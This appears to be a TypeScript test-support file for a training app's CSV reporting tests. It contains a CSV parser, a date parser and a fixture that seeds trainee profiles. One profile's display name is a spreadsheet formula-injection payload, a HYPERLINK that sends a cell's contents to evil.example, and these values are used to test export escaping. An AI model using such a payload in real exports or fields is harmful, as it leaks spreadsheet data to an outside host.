// Test support for the reporting tests (not used by the app): an independent CSV reader, and a
// real store filled by playing a small hostile-text scenario through the engine, as main does.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Store } from '../store/store';
import type { Attempt, Profile } from '../store/schema';
import { entryOf, type LibraryEntry } from '../library';
import { resultOf } from '../attemptResult';
import { runScenario, type RunInput } from '../../scenarios/engine/runner';
import { score } from '../../scenarios/engine/score';
import type { Scenario, TimerMode } from '../../scenarios/format/schema';
import { choice, ending, scenario, step, t } from '../../tests/support/scenarios';

/**
 * Reads CSV text: fields split on `delimiter`, records on CRLF, quoted fields with "" escapes.
 * A bare CR or LF outside quotes is an error: it would split a record in a spreadsheet.
 */
export function parseCsv(text: string, delimiter: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') { quoted = true; i++; continue; }
    if (c === delimiter) { record.push(field); field = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
      continue;
    }
    if (c === '\r' || c === '\n') throw new Error(`bare ${c === '\r' ? 'CR' : 'LF'} outside quotes at offset ${i}`);
    if (c === '"') throw new Error(`quote inside an unquoted field at offset ${i}`);
    field += c;
    i++;
  }
  if (field !== '' || record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
}

/** A French "JJ/MM/AAAA HH:MM" read as the workstation's local time. */
export function parseFrenchDate(s: string): Date {
  const m = /^(\d{2})\/(\d{2})\/(\d{4}) (\d{2}):(\d{2})$/.exec(s);
  if (!m) throw new Error(`not a JJ/MM/AAAA HH:MM date: ${s}`);
  return new Date(Number(m[3]), Number(m[2]) - 1, Number(m[1]), Number(m[4]), Number(m[5]));
}

/** The same instant, seconds and milliseconds dropped (what JJ/MM/AAAA HH:MM keeps). */
export const toMinute = (d: Date) => new Date(Math.floor(d.getTime() / 60_000) * 60_000);

export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")';

/** A small timed scenario whose texts carry separators, quotes, newlines and a formula. */
export const reportingScenario: Scenario = scenario(
  [
    step('accueil', 'seduction', [
      choice('sourire', 'besoin', { behaviour: 'proactive', empathy: 2, text: { fr: 'Bonjour ; « bienvenue »,\nque puis-je faire ?', en: 'Hello; "welcome",\nhow can I help?' } }),
      choice('attendre', 'besoin', { behaviour: 'passive', empathy: -1, text: t('=1+1 attendre', '=1+1 wait') }),
    ], { timer: { seconds: 10, timeout: { id: 'accueil-temps', feedback: t('Trop tard', 'Too late'), theory: 'commercial-passivity', next: 'besoin' } } }),
    step('besoin', 'influence', [
      choice('question', 'fin-ok', { behaviour: 'proactive', empathy: 2, text: t('Quel est votre besoin ?', 'What do you need?') }),
      choice('catalogue', 'fin-perdu', { behaviour: 'reactive', empathy: -2, text: t('Voici le catalogue', 'Here is the catalogue') }),
    ]),
    ending('fin-ok', 'prescriber'),
    ending('fin-perdu', 'lost'),
  ],
  { id: 'guichet-test', version: 3, title: { fr: 'Guichet ; « test »', en: 'Counter; "test"' }, rules: { passMark: 60 } },
);

export interface Play {
  readonly profile: Profile;
  readonly inputs: readonly RunInput[];
  readonly kind?: Attempt['kind'];
  readonly timerMode?: TimerMode;
  /** finished (default), abandoned after the decisions, in-progress (the last input not sent), or finished but stored as before per-phase figures existed. */
  readonly end?: 'finished' | 'abandoned' | 'in-progress' | 'finished-without-phases';
  /** Play on a scenario version the store does not keep. */
  readonly missingVersion?: boolean;
}

export interface ReportingFixture {
  readonly dir: string;
  readonly store: Store;
  readonly library: ReadonlyMap<string, LibraryEntry>;
  readonly entry: LibraryEntry;
  readonly profiles: { readonly hostile: Profile; readonly awa: Profile; readonly bob: Profile };
  /** Advances the store's clock. */
  tick(ms: number): void;
  play(p: Play): Promise<Attempt>;
}

/** A fresh store in a temp folder, three trainees, the scenario saved as the library version. */
export async function reportingFixture(startAt = Date.UTC(2024, 2, 5, 8, 30, 15, 250)): Promise<ReportingFixture> {
  const dir = mkdtempSync(join(tmpdir(), 'comptoir-reporting-'));
  let now = startAt;
  const store = await Store.open({ dataDir: dir, now: () => new Date(now) });
  const entry = entryOf(reportingScenario);
  await store.saveScenarioVersion(entry.contentHash, entry.text);
  const library = new Map([[reportingScenario.id, entry]]);
  const hostile = await store.createProfile({ displayName: HOSTILE_NAME, employeeId: '-42', cohort: 'Promo A', site: 'Lyon ; Part-Dieu' });
  const awa = await store.createProfile({ displayName: 'Awa Diallo', employeeId: 'E-7', cohort: 'Promo A', site: 'Paris' });
  const bob = await store.createProfile({ displayName: 'Bob "le vif"\nMartin', cohort: 'Promo B' });
  return {
    dir,
    store,
    library,
    entry,
    profiles: { hostile, awa, bob },
    tick: (ms) => { now += ms; },
    async play(p) {
      const timerMode = p.timerMode ?? 'normal';
      const run = runScenario(reportingScenario, p.inputs, { timerMode });
      const contentHash = p.missingVersion ? 'f'.repeat(64) : entry.contentHash;
      const attempt = await store.startAttempt({ profileId: p.profile.id, scenarioId: reportingScenario.id, scenarioVersion: reportingScenario.version, contentHash, timerMode, kind: p.kind ?? 'assessed' });
      const decisions = p.end === 'in-progress' ? run.log.decisions.slice(0, -1) : run.log.decisions;
      let saved = attempt;
      for (const [i, d] of decisions.entries()) {
        now += d.hesitationMs + 2_000;
        const last = i === decisions.length - 1;
        const finishing = last && run.ended && (p.end === undefined || p.end === 'finished' || p.end === 'finished-without-phases');
        const entryAt = { ...d, at: now };
        if (finishing) {
          const result = resultOf(score(reportingScenario, { timerMode, decisions: [...decisions.slice(0, i), entryAt] }));
          if (p.end === 'finished-without-phases') delete (result as { phases?: unknown }).phases;
          saved = await store.appendDecision(attempt.id, entryAt, { status: 'finished', result });
        } else {
          saved = await store.appendDecision(attempt.id, entryAt);
        }
      }
      if (p.end === 'abandoned') saved = await store.abandonAttempt(attempt.id);
      now += 60_000;
      return saved;
    },
  };
}
